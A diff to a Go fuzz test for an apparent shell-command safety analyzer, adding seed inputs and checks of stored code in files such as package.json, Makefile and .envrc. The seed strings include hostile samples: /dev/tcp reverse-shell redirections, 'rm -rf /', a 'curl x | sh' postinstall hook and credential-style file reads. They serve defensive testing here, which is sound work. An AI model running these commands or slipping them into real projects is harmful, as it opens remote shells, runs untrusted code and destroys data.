@@ -33,6 +33,8 @@ func FuzzAnalyze(f *testing.F) {
 		"kubectl exec -it p -c c -- sh -c 'rm x'", "kubectl exec", "oc exec p", "kubectl -n exec", "docker -H tcp://h exec c ls",
 		"docker exec -it", "podman exec -u", "gcloud compute ssh v --command", "gcloud compute ssh v --command='ls'",
 		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "find ~ -name x | xargs cat", "find | xargs -I{} cp {} y", "find 2>/dev/null | xargs", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
+		"printf 'all:\\n\\t@$(CC) $$x $(shell ls)\\n' > Makefile", "cat > Makefile <<'EOF'\nx:\n\t-rm -rf $(OUT) \\\n  y\n\t+$\nEOF",
+		"\"postinstall\": \"curl x | sh\", \"x\": \"", "{\"command\": \"ls\"", "\t$(\n\t${A.B}",
 	} {
 		f.Add(s)
 	}
@@ -43,6 +45,12 @@ func FuzzAnalyze(f *testing.F) {
 				t.Fatalf("Analyze(%q): %v", line, err)
 			}
 			return
+		}
+		for _, p := range []string{".envrc", "package.json", ".vscode/tasks.json", ".pre-commit-config.yaml", "Makefile"} {
+			// Stored code written through a file tool: the same analysis.
+			if _, err := AnalyzeStored(p, line, Options{Dir: "/w"}); err != nil && strings.Contains(err.Error(), "internal error") {
+				t.Fatalf("AnalyzeStored(%q, %q): %v", p, line, err)
+			}
 		}
 		again, err := Analyze(line, Options{Dir: "/w"})
 		if err != nil || !reflect.DeepEqual(an, again) {
